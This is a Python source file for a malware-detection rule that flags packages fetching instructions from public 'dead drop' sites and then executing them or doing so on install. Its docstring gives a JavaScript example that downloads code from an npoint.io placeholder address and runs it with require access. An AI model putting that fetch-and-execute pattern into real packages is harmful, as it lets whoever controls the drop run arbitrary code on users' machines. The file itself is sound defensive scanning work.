"""What is run next is fetched from a public drop.

*What it does*

Looks at the addresses that are asked, put together from whatever pieces: paste sites, snippets, calendars, stores of
JSON, nodes of blockchains. It speaks where the same file also runs what came over the network or out of a decoder, or
where the question is asked on installation.

*Why it matters*

Such places are never blocked, cost nothing, and can be changed at any time: the package that was reviewed says
nothing about what it will run.

*Example*

    const axios = require("axios");
    axios.get("https://api.npoint.io/00000000000000000000").then((answer) => {
      new Function("require", answer.data.code)(require);
    });
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._acts import Weight, acts, first_of_each_file, when
from assay.detectors.source._flows import runs_on_install
from assay.javascript.alarms import DEAD_DROP
from assay.model.finding import Evidence, Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="dead-drop",
    title="Fetches what to do from a public drop",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install or run it: what it does is decided by whoever writes there.",
    techniques=("T1102.001", "T1105"),
)
_WEIGHT = Weight(on_install=Severity.HIGH, when_used=Severity.HIGH, by_command=Severity.MEDIUM)
_KINDS = frozenset({BehaviourKind.NETWORK})
_RUNS = frozenset({BehaviourKind.DYNAMIC_CODE, BehaviourKind.PROCESS})


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each file that asks there."""
    for act in first_of_each_file(acts(subject, _KINDS, DEAD_DROP)):
        runs = [flow.sink for flow in act.file.flows if flow.sink.kind in _RUNS]
        if not runs and not runs_on_install(act.file):
            continue
        severity, confidence = _WEIGHT.of(act.file)
        yield finding(
            RULE,
            f"{subject.ref} fetches what to do from {act.matched} {when(act.file)}",
            act.evidence(f"{act.behaviour.detail} asks {act.matched}"),
            *(Evidence(f"{sink.detail} runs what came", sink.location) for sink in runs[:1]),
            severity=severity if runs else Severity.MEDIUM,
            confidence=confidence,
        )
